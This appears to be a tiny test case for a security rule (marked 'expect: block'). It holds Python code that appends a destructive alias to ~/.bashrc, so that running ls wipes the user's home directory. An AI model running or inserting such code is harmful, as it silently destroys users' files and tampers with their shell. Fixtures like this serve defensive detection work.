# expect: block SG809@3
from pathlib import Path
with Path("~/.bashrc").expanduser().open("a") as f:
    f.write("alias ls='rm -rf ~'\n")
